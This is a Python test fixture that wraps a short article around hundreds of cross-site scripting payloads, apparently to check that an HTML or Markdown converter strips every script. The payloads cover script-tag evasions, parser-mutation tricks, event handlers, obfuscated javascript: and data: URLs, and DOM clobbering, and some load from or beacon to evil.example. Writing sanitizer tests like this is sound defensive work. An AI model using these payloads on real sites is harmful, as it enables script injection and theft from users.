"""Pages that try to run scripts in any output that is made of them.

Each page has a harmless sentence that must survive. The list is for all forms: none may let an attack
through, as far as `dangers` can tell.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import AbstractContextManager, contextmanager
from typing import Final

from tests.dangers import dangers, what_runs

__all__ = ["ATTACKS", "SENTENCE", "dangers", "each_attack", "page", "what_runs"]

SENTENCE: Final = "The ferry left the harbour at six in the morning, and nobody on board had slept."
_MORE: Final = "It was a cold day in March, the sea was calm, and the captain said that all would be well."
_LAST: Final = "When the sun came up over the islands, they saw the lighthouse and knew that they were home."


# Written short in the list below: an image and a script that are shown as text, and an address.
_SHORT: Final = {
    "%I": "&lt;img src=x onerror=alert(1)&gt;",
    "%S": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%J": "javascript:alert(1)",
}


def page(attack: str) -> str:
    """A page with an article, and an attack in the middle of it."""
    for short, long in _SHORT.items():
        attack = attack.replace(short, long)
    return (
        "<!DOCTYPE html><html><head><title>The last ferry</title></head><body><article><h1>Home again</h1>"
        f"<p>{SENTENCE}</p><p>{_MORE}</p>\n{attack}\n<p>{_LAST}</p></article></body></html>"
    )


def _literal(text: str) -> str:
    """A paragraph that shows a text as it is."""
    return "<p>" + text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") + "</p>"


_SCRIPTS: Final = {
    "script": "<p>x</p><script>alert(1)</script>",
    "script in a paragraph": "<p>one <script>alert(1)</script> two</p>",
    "script with attributes": "<script type=text/javascript src=//evil.example/x.js async></script>",
    "script as a module": "<script type=module>import 'https://evil.example/x.js'</script>",
    "script, broken": "<p>x<scr<script>ipt>alert(1)</scr</script>ipt></p>",
    "script, cut by a slash": "<script/x>alert(1)</script/>",
    "script, cut by a null byte": "<scr\0ipt>alert(1)</scr\0ipt><script\0>alert(1)</script>",
    "script, unclosed": "<p>x</p><script>alert(1)",
    "script, doubly escaped": "<script><!--<script></script>--></script><img src=x onerror=alert(1)>",
    "script in upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "script in svg": "<svg><script>alert(1)</script><text>drawn</text></svg>",
    "script in svg, by href": "<svg><script href=data:,alert(1) /><text>drawn</text></svg>",
    "script in svg, escaped": "<svg><script>&#97;lert(1)</script><text>drawn</text></svg>",
    "script in math": "<math><mtext><script>alert(1)</script></mtext></math>",
    "script in an annotation": "<math><annotation-xml encoding=text/html><script>alert(1)</script></math>",
    "script in foreignObject": "<svg><foreignObject><p>x<script>alert(1)</script></foreignObject></svg>",
    "script in noscript": "<noscript><p>x</p><script>alert(1)</script></noscript>",
    "script in a template": "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "script in a table": "<table><script>alert(1)</script><tr><td>cell</td></tr></table>",
    "script in a list": "<ul><script>alert(1)</script><li>item</li></ul>",
    "script in a select": "<select><option>a<script>alert(1)</script></option></select>",
    "script in a comment that ends early": "<!--><script>alert(1)</script>-->",
    "script behind a bang": "<!-- x --!><script>alert(1)</script> -->",
    "script in a conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "script in a revealed comment": "<!--[if !IE]><!--><script>alert(1)</script><!--<![endif]-->",
    "script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "script in CDATA of svg": "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "script in a processing instruction": "<?xml version=1.0?><?x <script>alert(1)</script> ?>",
    "script behind a title": "<title></title><script>alert(1)</script></title>",
    "script behind a textarea": "<textarea></textarea><script>alert(1)</script></textarea>",
    "script shown as code": "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
    "script shown by xmp": "<xmp><script>alert(1)</script></xmp>",
    "script shown by listing": "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
    "script shown by plaintext": "<plaintext><script>alert(1)</script>",
}

_MUTATIONS: Final = {
    "style in math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>'
    ),
    "style in svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></style></svg>',
    "style in svg, escaped": "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style><text>drawn</text></svg>",
    "style in svg, twice escaped": "<svg><style>&amp;lt;img src=x onerror=alert(1)&amp;gt;</style></svg>",
    "xmp in svg": "<svg><xmp>&lt;script&gt;alert(1)&lt;/script&gt;</xmp><text>drawn</text></svg>",
    "noembed in math": "<math><noembed>&lt;img src=x onerror=alert(1)&gt;</noembed></math>",
    "iframe in svg": "<svg><iframe>&lt;/iframe&gt;&lt;img src=x onerror=alert(1)&gt;</iframe></svg>",
    "noscript in an attribute": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>',
    "noscript in a comment": "<noscript><!--</noscript><img src=x onerror=alert(1)>--><p>x</p></noscript>",
    "noscript in a style": "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "title in an attribute": '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    "title in svg": '<svg><title><style><a title="</style></title><img src=x onerror=alert(1)>"></svg>',
    "textarea in an attribute": '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "noframes": '<noframes><a title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    "forms inside each other": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>"
    ),
    "a form that ends inside a block": "<form><div></form><form action=javascript:alert(1)>x</form></div>",
    "a table in a link": "<a href=x><table><a href=javascript:alert(1)>y</a></table></a>",
    "a paragraph in a paragraph": "<p>a<table><p onclick=alert(1)>x</table>y</p>",
    "formatting that comes back": "<p><b onclick=alert(1)>a<p>b<p>c</b>",
    "a select": "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "a template in a select": "<select><template><style></select><img src onerror=alert(1)></template>",
    "a line break in pre": "<pre>\n\n<b onclick=alert(1)>x</b></pre>",
    "an attribute without quotes": "<p title=`><img src=x onerror=alert(1)>`>x</p>",
    "an attribute with a quote in its name": '<p a"b\'c=1 "onclick=alert(1) x>y</p>',
    "an attribute behind a slash": "<p/onclick=alert(1)/title=x>y</p>",
    "an attribute with an equals sign": '<p =="x" =onclick=alert(1)>y</p>',
    "a backtick": "<img alt='``onerror=alert(1)' src=x><p title='`><script>alert(1)</script>'>x</p>",
    "a tag that does not end": '<p>x</p><img src=x onerror=alert(1) title="',
    "a tag in a tag": "<p <img src=x onerror=alert(1)>>x</p>",
    "a name with a bracket": "<p<img/src=x/onerror=alert(1)>x</p>",
    "an end of CDATA": "<p>]]><img src=x onerror=alert(1)></p>",
    "overlong UTF-8": "<p>\ufffd\ufffdscript\ufffd\ufffd alert(1)</p><img src=x onerror=alert(1)>",
    "UTF-7": "<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>",
    "references without an end": "<p>&ltscript&gtalert(1)&lt/script&gt</p>",
    "references of references": "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>",
    "full-width brackets": "<p>＜script＞alert(1)＜/script＞</p>",
    "a carriage return": "<p title='&#13;\" onclick=alert(1)'>x&#13;y</p>",
    "a frameset": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
}

_HANDLERS: Final = {
    f"a handler on {tag.split()[0]}": f"<{tag} {handler}>shown</{tag.split()[0]}>"
    for tag, handler in [
        ("p", "onclick=alert(1)"),
        ("a href=/x", "onmouseover='alert(1)'"),
        ("img src=x", "onerror=alert(1)"),
        ("svg", "onload=alert(1)"),
        ("body", "onload=alert(1)"),
        ("details open", "ontoggle=alert(1)"),
        ("video src=x", "onerror=alert(1)"),
        ("audio src=x", 'oncanplay="alert(1)"'),
        ("input autofocus", "onfocus=alert(1)"),
        ("select autofocus", "onfocus=alert(1)"),
        ("textarea autofocus", "onfocus=alert(1)"),
        ("marquee", "onstart=alert(1)"),
        ("div style=animation-name:x", "onanimationstart=alert(1)"),
        ("x-card tabindex=1", "onfocus=alert(1)"),
        ("math", "onclick=alert(1)"),
        ("code class=language-x", "ONCLICK=alert(1)"),
        ("blockquote cite=x", "onwheel\t=\nalert(1)"),
        ("table background=x", "onscroll=alert(1)"),
        ("ruby", "onpointerenter=alert(1)"),
        ("button", "onclick=alert(1)"),
    ]
}

_ADDRESSES: Final = {
    f"an address: {name}": f'<p><a href="{address}">link</a></p>'
    for name, address in {
        "javascript": "javascript:alert(1)",
        "mixed case": "JaVaScRiPt:alert(1)",
        "a tab": "java&#9;script:alert(1)",
        "a line break": "java\nscript:alert(1)",
        "a carriage return": "java&#13;script:alert(1)",
        "spaces before": " &#32; javascript:alert(1)",
        "control characters before": "&#1;&#8;&#14;javascript:alert(1)",
        "references": "&#x6A;&#97;vascript&#58;alert(1)",
        "references without an end": "&#106avascript&#0000058alert(1)",
        "a named colon": "javascript&colon;alert(1)",
        "a named tab": "jav&Tab;ascript&colon;alert(1)",
        "a comment": "javascript://example.org/%0aalert(1)",
        "a null byte": "java\0script:alert(1)",
        "vbscript": "vbscript:msgbox(1)",
        "data": "data:text/html,<script>alert(1)</script>",
        "data in base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data of svg": "data:image/svg+xml,<svg onload=alert(1)>",
        "data in mixed case": "DaTa:text/html,x",
        "livescript": "livescript:alert(1)",
        "view-source": "view-source:javascript:alert(1)",
        "a soft hyphen": "java&shy;script:alert(1)",
        "a zero-width space": "&#x200B;javascript:alert(1)",
        "quotes": "x&quot; onclick=&quot;alert(1)",
        "brackets": "https://example.org/)[x](javascript:alert(1)",
        "angle brackets": "https://example.org/&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
        "a line break and a definition": "https://example.org/\n\n[x]: javascript:alert(1)",
        "without a scheme": "//evil.example/x",
        "blob": "blob:https://evil.example/1",
        "file": "file:///etc/passwd",
    }.items()
}

_ELEMENTS: Final = {
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe src": "<iframe src=javascript:alert(1)></iframe>",
    "iframe data": "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "object": "<object data=javascript:alert(1)>x</object>",
    "object data": "<object type=text/html data='data:text/html,<script>alert(1)</script>'><p>x</p></object>",
    "embed": "<embed src=javascript:alert(1)><embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "applet": "<applet code=javascript:alert(1)>x</applet>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "meta refresh in disguise": "<META HTTP-EQUIV=' Refresh' CONTENT='0; URL=https://evil.example/'>",
    "meta cookie": "<meta http-equiv=Set-Cookie content='a=b'>",
    "meta charset": "<meta charset=utf-7><p>+ADw-script+AD4-alert(1)</p>",
    "base": "<base href=javascript:alert(1)//><p><a href=/x>link</a></p>",
    "base elsewhere": "<base href=https://evil.example/ target=_blank><p><a href=x>link</a></p>",
    "link import": "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "link style": "<link rel=stylesheet href=javascript:alert(1)>",
    "style import": "<style>@import 'javascript:alert(1)';</style>",
    "style expression": "<p style='width:expression(alert(1))'>x</p>",
    "style address": "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "style behaviour": "<p style='behavior:url(x.htc);-moz-binding:url(x.xml#y)'>x</p>",
    "style over all": "<div style='position:fixed;inset:0;z-index:9999'><a href=https://evil.example>x</a></div>",
    "form action": "<form action=javascript:alert(1)><input type=submit></form>",
    "formaction": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "an image": "<p>x <img src=%J dynsrc=%J lowsrc=%J></p>",
    "an image of data": "<p>x <img src='data:text/html,<script>alert(1)</script>'></p>",
    "an image of svg": "<p>x <img src='data:image/svg+xml,<svg onload=alert(1)>'></p>",
    "srcset": "<p>x <img srcset='javascript:alert(1) 1x, data:text/html,x 2x'></p>",
    "a lazy image": "<p>x <img data-src=javascript:alert(1) src=x></p>",
    "a lazy image in noscript": "<p>x</p><noscript><img src=javascript:alert(1) onerror=alert(1)></noscript>",
    "a picture": "<p>x</p><picture><source srcset=javascript:alert(1)><img src=x onerror=alert(1)></picture>",
    "a tracking pixel": "<p>x <img src=https://evil.example/p.gif width=1 height=1></p>",
    "an image with quotes": "<p>x <img src=x alt='\" onerror=\"alert(1)' title='\"><script>alert(1)'></p>",
    "background": "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "ping": "<p><a href=/x ping='https://evil.example/ javascript:alert(1)'>link</a></p>",
    "target": "<p><a href=/x target=_top name=location id=cookie>link</a></p>",
    "xlink": "<svg><a xlink:href=javascript:alert(1)><text>drawn</text></a></svg>",
    "href in svg": "<svg><a href=javascript:alert(1)><text>drawn</text></a></svg>",
    "href in math": "<math href=javascript:alert(1)><mi href=javascript:alert(1)>x</mi></math>",
    "xlink in math": "<math><maction actiontype=statusline#x xlink:href=%J>x</maction></math>",
    "animate": "<svg><a><animate attributeName=href values=%J /><text>drawn</text></a></svg>",
    "animate one of several": "<svg><a><animate attributeName=xlink:href values='x;%J' /></a></svg>",
    "set": "<svg><a><set attributeName=href to=javascript:alert(1) /><text>drawn</text></a></svg>",
    "set a handler": "<svg><set attributeName=onmouseover to=alert(1) /><text>drawn</text></svg>",
    "use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x' /><text>drawn</text></svg>",
    "image in svg": "<svg><image href=javascript:alert(1) onload=alert(1) /><text>drawn</text></svg>",
    "handler in svg": "<svg><g onload=alert(1)><text onclick=alert(1)>drawn</text></g></svg>",
    "video": "<video poster=javascript:alert(1)><source onerror=alert(1) src=x></video>",
    "portal": "<portal src=javascript:alert(1)></portal>",
    "slot": "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "clobbering by id": "<p id=body>x</p><a id=location href=/x>link</a><form id=forms><p>x</p></form>",
    "clobbering by name": "<form name=cookie><input name=attributes><img name=createElement src=x></form>",
    "clobbering a footnote": "<p>x<a href=#getElementById id=innerHTML>1</a></p><li id=getElementById>x",
    "a language with quotes": "<p lang='x\" onclick=\"alert(1)' dir='\"><script>'>x</p>",
    "a cell with quotes": "<table><tr><th scope='\" onclick=\"alert(1)' colspan='2\" onclick=\"x'>x</table>",
    "a date with quotes": "<p><time datetime='\"><script>alert(1)</script>'>today</time></p>",
    "a quotation": "<blockquote cite=javascript:alert(1)>x <q cite=javascript:alert(1)>y</q></blockquote>",
    "an abbreviation": "<p><abbr title='\"><img src=x onerror=alert(1)>'>x</abbr></p>",
}

_MARKDOWN: Final = {
    f"Markdown: {name}": attack
    for name, attack in {
        "a link": _literal("[x](javascript:alert(1))"),
        "a link over a line break": _literal("[x]\n(javascript:alert(1))"),
        "a link of a title": _literal('[x](javascript:alert(1) "title")'),
        "a link in angle brackets": _literal("[x](<javascript:alert(1)>)"),
        "an image": _literal("![x](javascript:alert(1))"),
        "an image of data": _literal("![x](data:text/html;base64,PHNjcmlwdD4=)"),
        "an autolink": _literal("<javascript:alert(1)>"),
        "a reference": _literal("[x][y] [y]") + _literal("[y]: javascript:alert(1)"),
        "a definition": _literal("[x]: javascript:alert(1)") + _literal("[x]"),
        "a footnote": _literal("[^1]") + _literal("[^1]: <img src=x onerror=alert(1)>"),
        "raw HTML": _literal("<img src=x onerror=alert(1)>"),
        "a raw block": _literal("<script>alert(1)</script>"),
        "a raw block behind an escape": _literal("\\<script>alert(1)</script>"),
        "a raw comment": _literal("<!-- --><img src=x onerror=alert(1)>"),
        "a raw declaration": _literal("<!X><img src=x onerror=alert(1)>") + _literal("<?x ?><b onclick=x>"),
        "raw CDATA": _literal("<![CDATA[ ]]><img src=x onerror=alert(1)>"),
        "references": _literal("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "raw HTML in a heading": "<h2>&lt;img src=x onerror=alert(1)&gt;</h2>",
        "raw HTML in a cell": "<table><tr><th>a<th>b<tr><td>| %I |<td>y</table>",
        "a link in a cell": "<table><tr><th>a<th>b<tr><td>x | [x](%J)<td>y\n\n[z](javascript:x)</table>",
        "raw HTML in a list": "<ul><li>%I<li>- %S</ul>",
        "raw HTML in a quotation": "<blockquote>&gt; &lt;img src=x onerror=alert(1)&gt;</blockquote>",
        "raw HTML in emphasis": "<p><b>**</b><i>&lt;img src=x onerror=alert(1)&gt;</i></p>",
        "a fence in code": "<pre><code>```\n&lt;img src=x onerror=alert(1)&gt;\n```\n~~~\n</code></pre>",
        "a fence's language": "<pre><code class='language-x`\n<img src=x onerror=alert(1)>'>x</code></pre>",
        "a backtick in code": "<p><code>` &lt;img src=x onerror=alert(1)&gt; `` x</code></p>",
        "code that ends with a backslash": "<p><code>\\</code>%I<code>\\</code></p>",
        "a link's text": "<p><a href=/x>a](javascript:alert(1)) [b</a></p>",
        "a link's text with a backslash": "<p><a href=/x>a\\</a>](javascript:alert(1))</p>",
        "a link's title": "<p><a href=/x title='&quot;) [x](javascript:alert(1))'>link</a></p>",
        "an image's text": "<p>x <img src=/x.png alt='](javascript:alert(1)) ![b'></p>",
        "an image's title": "<p>x <img src=/x.png title='&quot;)&lt;img src=x onerror=alert(1)&gt;'></p>",
        "an image's address": "<p>x <img src='/x.png) [x](javascript:alert(1)' alt=x></p>",
        "an address with a line break": "<p><a href='/x&#10;&#10;%S'>link</a></p>",
        "an address with whitespace": "<p><a href='/x \"onclick=alert(1)'>link</a></p>",
        "an address that ends with a backslash": "<p><a href='/x\\'>link</a>) &lt;b onclick=alert(1)&gt;</p>",
        "an exclamation mark before a link": "<p>!<a href=/x>link</a></p>",
        "brackets around a link": "<p>[<a href=/x>link</a>](javascript:alert(1))</p>",
        "four spaces": "<p>a</p><p>    &lt;img src=x onerror=alert(1)&gt;</p>",
        "a line break in a tag": "<p>&lt;img<br>src=x<br>onerror=alert(1)&gt;</p>",
        "a tag over elements": "<p>&lt;<b>img</b> <i>src=x</i> onerror=alert(1)&gt;</p>",
        "a tag cut by nothing": "<p><i>&lt;</i>script<i>&gt;</i>alert(1)<i>&lt;</i>/script&gt;</p>",
        "a formula": "<math><mtext>&lt;img src=x onerror=alert(1)&gt;</mtext></math>",
        "a formula's annotation": (
            "<math><semantics><mi>x</mi><annotation encoding='application/x-tex'>"
            "$ &lt;img src=x onerror=alert(1)&gt; $</annotation></semantics></math>"
        ),
        "a formula's alternative text": "<math alttext='%S'><mi>x</mi></math>",
        "a definition list": "<dl><dt>[x]: javascript:alert(1)<dd>[x] &lt;b onclick=alert(1)&gt;</dl>",
        "a summary": "<details><summary>&lt;/summary&gt;%S</summary>x</details>",
        "a caption": "<figure><img src=/x.png><figcaption>%S</figcaption></figure>",
        "subscripts": "<p>x<sub>%I</sub> <del>&lt;/del&gt;&lt;script&gt;</del></p>",
        "front matter": "<p>---</p><p>title: &lt;script&gt;alert(1)&lt;/script&gt;</p><p>---</p>",
    }.items()
}

ATTACKS: Final[dict[str, str]] = {
    name: page(attack)
    for group in (_SCRIPTS, _MUTATIONS, _HANDLERS, _ADDRESSES, _ELEMENTS, _MARKDOWN)
    for name, attack in group.items()
}


def each_attack() -> Iterator[tuple[str, AbstractContextManager[None]]]:
    """The page of each attack, and a context in which a failure bears the attack's name.

    One test goes through all of them: thousands of tests of a millisecond take longer to count than to run.
    """
    for name, html in ATTACKS.items():
        yield html, _named(name)


@contextmanager
def _named(name: str) -> Iterator[None]:
    try:
        yield
    except BaseException as error:
        error.add_note(f"The attack: {name}")
        raise
